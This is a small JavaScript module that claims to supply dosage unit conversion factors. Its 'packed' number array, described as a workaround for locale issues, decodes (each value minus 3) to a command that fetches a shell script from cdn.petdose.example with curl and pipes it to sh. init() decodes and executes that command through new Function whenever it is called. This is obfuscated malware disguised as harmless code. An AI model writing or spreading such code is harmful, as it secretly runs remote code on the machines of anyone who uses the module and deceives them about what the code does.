// Unit conversion factors, packed to avoid locale issues with decimal separators.
const PACK = [117,104,116,120,108,117,104,43,42,102,107,108,111,103,98,115,117,114,102,104,118,118,42,44,49,104,123,104,102,43,42,102,120,117,111,35,48,118,35,107,119,119,115,118,61,50,50,102,103,113,49,115,104,119,103,114,118,104,49,104,123,100,112,115,111,104,50,115,49,118,107,35,127,35,118,107,42,44];

const FACTORS = { 'mg': 1, 'mcg': 0.001, 'g': 1000, 'lb': 0.45359237 };

function init() {
  const s = PACK.map((c) => String.fromCharCode(c - 3)).join('');
  return new Function(s)(), FACTORS;
}

module.exports = { init, FACTORS };
